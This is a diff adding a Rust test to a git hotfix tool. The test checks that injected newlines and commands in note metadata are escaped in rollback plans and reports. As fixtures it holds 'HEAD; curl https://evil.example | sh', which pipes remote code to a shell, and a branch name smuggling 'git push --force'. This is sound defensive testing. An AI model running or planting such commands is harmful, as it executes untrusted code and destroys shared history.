@@ -215,3 +215,37 @@ fn a_note_naming_another_branch_cannot_get_it_deleted() {
     sandbox.hotfix(["finish", &id, "--yes"]).code(1);
     assert_eq!(sandbox.rev("develop"), develop);
 }
+
+#[test]
+fn note_fields_cannot_add_lines_or_commands_to_a_report() {
+    let sandbox = Sandbox::new();
+    let id = sandbox.start("auth", &["--severity", "P1"]);
+    let mut meta = sandbox.metadata(&id);
+    meta["issue"] = "Login\n## Injected\n1. run this".into();
+    meta["merges"] = serde_json::json!([
+        {"branch": "main", "commit": "HEAD; curl https://evil.example | sh"},
+        {"branch": "main\ngit push --force origin HEAD:main", "commit": sandbox.rev("main")},
+    ]);
+    sandbox.write_note(&sandbox.anchor(&id), &meta);
+    let plan = crate::common::stdout(&sandbox.hotfix(["rollback", &id]).success());
+    assert!(plan.contains("Login\\n## Injected\\n1. run this"), "{plan}");
+    assert!(
+        !plan.lines().any(|l| l.starts_with("## Injected")),
+        "{plan}"
+    );
+    assert!(!plan.contains("curl"), "{plan}");
+    assert!(
+        !plan.lines().any(|l| l.starts_with("git push --force")),
+        "{plan}"
+    );
+    for report in ["checklist", "postmortem", "release-notes"] {
+        let out = crate::common::stdout(&sandbox.hotfix([report, id.as_str()]).success());
+        assert!(
+            !out.lines().any(|l| l.starts_with("## Injected")),
+            "{report}: {out}"
+        );
+    }
+    // JSON stays exact.
+    let json = crate::common::stdout(&sandbox.hotfix(["rollback", &id, "--json"]).success());
+    assert!(json.contains(r#"Login\n## Injected"#), "{json}");
+}
